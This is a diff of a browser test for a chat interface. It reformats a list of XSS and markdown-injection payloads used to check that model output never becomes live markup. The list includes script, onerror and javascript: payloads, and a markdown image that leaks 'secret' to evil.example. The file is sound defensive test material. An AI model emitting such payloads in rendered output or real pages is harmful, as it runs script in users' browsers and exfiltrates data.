@@ -6,28 +6,22 @@ from playwright.sync_api import expect
 pytestmark = pytest.mark.browser
 
 ATTACKS = [
-    "<script>window.hit = 1</script>",
-    "<img src=x onerror='window.hit = 1'>",
+    "<script>window.hit = 1</script>", "<img src=x onerror='window.hit = 1'>",
     "<svg onload='window.hit = 1'><script>window.hit = 1</script></svg>",
     "<svg><style><img src=x onerror='window.hit = 1'></style></svg>",
     "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
     "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
     "<form action='https://evil.example'><button>Send</button></form>",
-    "<a href='javascript:window.hit = 1'>click</a>",
-    "[click](javascript:window.hit=1)",
+    "<a href='javascript:window.hit = 1'>click</a>", "[click](javascript:window.hit=1)",
     "[click](JaVaScRiPt&colon;window.hit=1)",
-    "[click](data:text/html,<script>window.hit=1</script>)",
-    "[click](vbscript:x)",
-    "![secret](https://evil.example/?q=secret)",
-    '![a](x"onerror="window.hit=1)',
+    "[click](data:text/html,<script>window.hit=1</script>)", "[click](vbscript:x)",
+    "![secret](https://evil.example/?q=secret)", '![a](x"onerror="window.hit=1)',
     "```html\n<img src=x onerror='window.hit = 1'>\n```",
-    '```"><img/src/onerror=window.hit=1>\ncode\n```',
-    "<style>body { display: none }</style>",
+    '```"><img/src/onerror=window.hit=1>\ncode\n```', "<style>body { display: none }</style>",
     "<div style='position:fixed;inset:0'>cover</div>",
     "<think><img src=x onerror='window.hit = 1'></think><b onclick='window.hit=1'>x</b>",
-    "[a]: javascript:window.hit=1\n\n[click][a]",
-    "<javascript:window.hit=1>",
-]
+    "[a]: javascript:window.hit=1\n\n[click][a]", "<javascript:window.hit=1>",
+]  # fmt: skip
 
 
 def test_nothing_a_model_says_becomes_markup(chat):
